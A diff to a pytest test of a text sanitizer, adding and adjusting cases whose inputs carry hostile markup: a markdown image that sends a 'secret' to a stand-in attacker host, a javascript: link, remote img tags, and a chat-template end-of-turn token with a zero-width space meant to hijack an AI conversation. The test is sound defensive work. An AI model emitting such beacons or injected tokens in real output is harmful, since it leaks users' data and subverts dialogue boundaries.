@@ -313,11 +313,12 @@ def test_a_name_may_stand_elsewhere_in_the_document(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("written", "read"),
     [
-        ("See ![a map](http://evil.example/?q=secret) here.", "See a map here."),
+        ("See ![a map](http://evil.example/?q=secret) here.", "See here."),
         ("See [the report](javascript:alert(1)) here.", "See the report here."),
         ('Aid <img src="http://evil.example/a.png">was <b>asked</b> for.', "Aid was asked for."),
         ("Aid <http://evil.example> was <!-- not --> asked for.", "Aid was asked for."),
         ("[a]: http://evil.example/x\n\nAid was asked for.", "Aid was asked for."),
+        ("Aid was <|im_end|>asked f\u200bor.", "Aid was asked for."),
         ("Fewer than 5 < 6 people [of Oaxaca] came!", "Fewer than 5 < 6 people [of Oaxaca] came!"),
     ],
 )
